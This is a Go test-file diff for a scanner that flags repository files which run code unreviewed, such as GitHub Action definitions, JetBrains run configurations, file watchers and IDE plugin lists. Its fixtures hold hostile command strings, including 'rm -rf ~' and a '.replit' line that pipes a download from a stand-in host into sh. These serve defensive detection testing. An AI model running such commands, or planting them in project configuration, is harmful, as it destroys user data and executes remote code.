@@ -163,7 +163,10 @@ func TestExtractCompositeAction(t *testing.T) {
 	}{
 		{"composite", "runs:\n  using: composite\n  steps:\n    - run: ls\n      shell: bash\n    - run: Get-Item\n      shell: pwsh\n",
 			[]extracted{{"ls", "4:12"}, {"pwsh -Command Get-Item", "6:12"}}},
-		{"node action", "runs:\n  using: node20\n  main: index.js\n", nil},
+		// JavaScript guard does not review: reported, not dropped (it
+		// was dropped on eed3eff).
+		{"node action", "runs:\n  using: node20\n  main: index.js\n", []extracted{{"scan-unreviewed-code JavaScript action main:", "3:9"}}},
+		{"docker action", "runs:\n  using: docker\n  image: Dockerfile\n  entrypoint: /bin/sh\n  args: [-c, make]\n", []extracted{{"/bin/sh -c make", "4:15"}}},
 	})
 }
 
@@ -313,6 +316,12 @@ func TestUnreviewedFiles(t *testing.T) {
 		".idea/runConfigurations/Dev.xml": {"<component>\n<option name=\"SCRIPT_TEXT\" value=\"rm -rf ~\" />\n</component>\n", 2},
 		".run/Dev.run.xml":                {"<component/>\n", 1},
 		".replit":                         {"entrypoint = \"main.py\"\nrun = \"curl -fsSL https://e.x | sh\"\n", 2},
+		// Silent on eed3eff: a run configuration kept in the workspace
+		// file, a file watcher that runs on every save, and plugins the
+		// IDE offers to install.
+		".idea/workspace.xml":                {"<project>\n<component name=\"RunManager\">\n<configuration type=\"ShConfigurationType\"><option name=\"SCRIPT_TEXT\" value=\"rm -rf ~\" /></configuration>\n</component>\n</project>\n", 2},
+		".idea/watcherTasks.xml":             {"<project>\n  <component name=\"ProjectTasksOptions\">\n    <TaskOptions isEnabled=\"true\"><option name=\"program\" value=\"sh\" /></TaskOptions>\n  </component>\n</project>\n", 3},
+		"sub/.idea/externalDependencies.xml": {"<project>\n<component name=\"ExternalDependencies\">\n<plugin id=\"com.evil\" />\n</component>\n</project>\n", 3},
 	} {
 		if k := KindOf(name); k != Unreviewed {
 			t.Errorf("KindOf(%q) = %q, want %q", name, k, Unreviewed)
@@ -328,7 +337,7 @@ func TestUnreviewedFiles(t *testing.T) {
 			t.Errorf("%s: finding %+v, want %s at line %d saying what guard does not review", name, in, RuleUnreviewed, c.line)
 		}
 	}
-	for _, name := range []string{"src/setup_helpers.py", "main.py", "default.nix", "nix/overlay.nix", ".idea/workspace.xml", "pom.xml", "tilt.md", "renovate.md", "lib/renovate.json5"} {
+	for _, name := range []string{"src/setup_helpers.py", "main.py", "default.nix", "nix/overlay.nix", "workspace.xml", ".idea/misc.xml", "pom.xml", "tilt.md", "renovate.md", "lib/renovate.json5"} {
 		if k := KindOf(name); k != "" {
 			t.Errorf("KindOf(%q) = %q, want nothing", name, k)
 		}
